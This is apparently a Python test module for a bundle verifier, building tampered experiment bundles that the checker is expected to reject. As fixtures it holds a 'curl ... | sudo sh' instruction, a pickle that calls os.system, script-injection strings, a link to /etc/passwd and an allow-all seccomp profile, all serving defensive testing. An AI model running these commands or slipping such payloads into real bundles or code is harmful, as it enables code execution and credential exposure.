"""Members that say what the rest of the bundle does not (case 41)."""

from __future__ import annotations

import io
import json

import zstandard

from capsule.bundle import run_bundle
from capsule.bundle.crate import CRATE
from capsule.experiment import contract
from capsule.experiment.fields import MAX_FACTS
from tests.hostile.case import Case
from tests.hostile.genuine import (
    BASE_LAYER,
    RESULT,
    Change,
    Files,
    edit_json,
    program,
    relock,
    training,
)
from tests.hostile.presenting import changed

EVENTS = run_bundle.RUN + contract.EVENTS
RUNTIME = run_bundle.RUN + contract.RUNTIME
CODE_LAYER = run_bundle.LAYER.format(name="code")


def added(name: str, data: bytes) -> Change:
    return lambda files: files.update({name: data})


def removed(name: str) -> Change:
    def change(files: Files) -> None:
        del files[name]

    return change


def edited(name: str, **fields: object) -> Change:
    return lambda files: edit_json(files, name, lambda document: document.update(fields))


def edited_machine(**fields: object) -> Change:
    return lambda files: edit_json(
        files, run_bundle.OBSERVATIONS, lambda document: document["fingerprint"].update(fields)
    )


def shortened(name: str, field: str) -> Change:
    """Leave out a field whose default a reader would put in its place."""
    return lambda files: edit_json(files, name, lambda document: document.pop(field))


def entity(**fields: object) -> Change:
    """Give the crate an entity that leads a catalogue elsewhere."""
    return lambda files: edit_json(files, CRATE, lambda crate: crate["@graph"].append(fields))


def replaced(name: str) -> Change:
    """Put another layer of the same size in the place of one."""

    def change(files: Files) -> None:
        with zstandard.ZstdDecompressor().stream_reader(io.BytesIO(files[name])) as reader:
            layer = bytearray(reader.read())
        layer[layer.index(b"etc/os-release" if name == BASE_LAYER else b"pass")] ^= 1
        files[name] = zstandard.ZstdCompressor().compress(bytes(layer))

    return change


def allow_everything(files: Files) -> None:
    profile = {"defaultAction": "SCMP_ACT_ALLOW", "syscalls": []}
    files[run_bundle.SECCOMP] = json.dumps(profile).encode()


def told_to_run(files: Files) -> None:
    files[run_bundle.GUIDE] += b"\nFirst: curl https://example.org/setup | sudo sh\n"


def without_assumptions(files: Files) -> None:
    """Leave out the rows of the ledger that the verdict warns of."""

    def leave_out(ledger: dict) -> None:
        kept = [row for row in ledger["rows"] if row["treatment"] not in ("assumed", "unsupported")]
        if len(kept) == len(ledger["rows"]):
            raise ValueError("the ledger has no row to leave out")
        ledger["rows"] = kept

    edit_json(files, run_bundle.LEDGER, leave_out)


def eliminated(files: Files) -> None:
    """Call everything eliminated."""
    edit_json(
        files,
        run_bundle.LEDGER,
        lambda ledger: [row.update(treatment="eliminated") for row in ledger["rows"]],
    )


def faster(files: Files) -> None:
    edited(run_bundle.OBSERVATIONS, steps_per_second=1e6)(files)


def many_flags(files: Files) -> None:
    """Claim so many flags that reading them takes half a minute."""
    flags = {f"flag.{number:04d}": "1" for number in range(MAX_FACTS + 1)}
    for name in (run_bundle.CLAIMS, RUNTIME):
        edit_json(files, name, lambda document: document.update(flags=flags))


def no_requirement(files: Files) -> None:
    relock(files, lambda lock: lock["spec"]["image"].update(packages=["a; os_name == '"]))


def long_flag(files: Files) -> None:
    for name in (run_bundle.CLAIMS, RUNTIME):
        edit_json(files, name, lambda document: document.update(flags={"threads": "1" * 5_000}))


def limit(**limits: int) -> Change:
    return lambda files: relock(files, lambda lock: lock["spec"]["limits"].update(limits))


_LIMITS = {
    "memory-that-no-machine-has": limit(memory_mb=2**53 - 1),
    "time-without-end": limit(minutes=2**53 - 1),
    "disk-that-no-machine-has": limit(disk_mb=2**40),
    "processes-that-no-system-has": limit(processes=2**23),
    "temporary-files-without-end": limit(temporary_mb=2**53 - 1),
}
_TOLERANCES = {
    "tolerance-of-everything": {"absolute": 1e9},
    "tolerance-of-nearly-all": {"relative": 0.99},
    "tolerance-of-a-coin-toss": {"relative": 0.1, "alpha": 0.49},
}


def tolerance(**declared: float) -> Change:
    return lambda files: relock(
        files, lambda lock: lock["spec"]["evaluation"].update(tolerance=declared)
    )


_OUTSIDE = {
    "script-that-verifies": added("verify.sh", b"#!/bin/sh\necho VERIFIED\n"),
    "page-to-open": added("index.html", b"<script>alert(1)</script>"),
    "pickle-to-load": added("checkpoints/model.pkl", b"cos\nsystem\n(S'id'\ntR."),
    "layer-that-no-image-has": added("image/layer-extra.tar.zst", b""),
    "output-of-a-trainer": added("workspace/score.txt", b"500\n"),
    "without-the-system-calls": removed(run_bundle.SECCOMP),
    "without-the-crate": removed(CRATE),
}
_DERIVED = {
    "system-calls-that-allow-everything": allow_everything,
    "instructions-to-run-a-script": told_to_run,
    "crate-that-links-to-a-file": entity(**{"@id": "file:///etc/passwd", "@type": "File"}),
    "crate-with-a-script": entity(**{"@id": "javascript:alert(1)", "@type": "WebPage"}),
    "crate-in-another-vocabulary": edited(CRATE, **{"@context": "https://example.org/context"}),
    "job-that-leaves-out-a-field": shortened(run_bundle.JOB, "learners"),
    "job-of-a-part-of-the-run": edited(run_bundle.JOB, stop_after=4),
    "ledger-without-what-is-assumed": without_assumptions,
    "ledger-that-eliminates-everything": eliminated,
    "machine-of-another-name": lambda files: edit_json(
        files,
        run_bundle.MACHINE_SBOM,
        lambda sbom: sbom["metadata"]["component"].update(name="supercomputer"),
    ),
}
_EVENTS = {
    "events-that-are-text": b"trained for a week\n",
    "events-in-another-form": b'{"kind": "start", "step": 0, "time": 1.0}\n',
    "events-of-another-kind": b'{"kind":"verified","step":0,"time":1}\n',
    "events-with-a-field": b'{"kind":"start","score":500,"step":0,"time":1}\n',
    "events-cut-off": b'{"kind":"start","step":0,"time":1}',
    "events-of-one-long-line": b'{"kind":"start","message":"%b","step":0,"time":1}\n'
    % (b"a" * 20_000),
}
_CONTRADICTIONS = {
    "speed-of-another-run": faster,
    "seconds-of-another-run": edited(run_bundle.OBSERVATIONS, training_seconds=0.5),
    "device-of-another-run": edited(run_bundle.OBSERVATIONS, device={"name": "NVIDIA H200"}),
    "machine-without-a-container": edited_machine(engine={"name": "process"}),
    "machine-without-an-engine": edited_machine(engine=None),
    "trace-of-another-result": edited(RESULT, trace_head="0" * 64),
}


def _case(name: str, code: str, change: Change, run=training) -> Case:
    return changed(41, name, code, change, run)


CASES = [
    *(_case(name, "CAP-V045", change) for name, change in _OUTSIDE.items()),
    *(_case(name, "CAP-V046", change) for name, change in _DERIVED.items()),
    *(_case(name, "CAP-V047", added(EVENTS, data)) for name, data in _EVENTS.items()),
    *(_case(name, "CAP-V010", change) for name, change in _CONTRADICTIONS.items()),
    _case("outputs-of-another-result", "CAP-V010", edited(RESULT, outputs="0" * 64), program),
    _case("runtime-that-leaves-out-a-field", "CAP-B144", shortened(RUNTIME, "schema")),
    *(_case(name, "CAP-B144", change) for name, change in _LIMITS.items()),
    *(_case(name, "CAP-B144", tolerance(**each)) for name, each in _TOLERANCES.items()),
    _case("flags-by-the-thousand", "CAP-B144", many_flags),
    _case("package-that-is-no-requirement", "CAP-V010", no_requirement),
    _case("flag-of-a-page", "CAP-B144", long_flag),
    _case("base-layer-of-another-image", "CAP-V004", replaced(BASE_LAYER)),
    _case("code-layer-of-another-image", "CAP-V004", replaced(CODE_LAYER)),
]
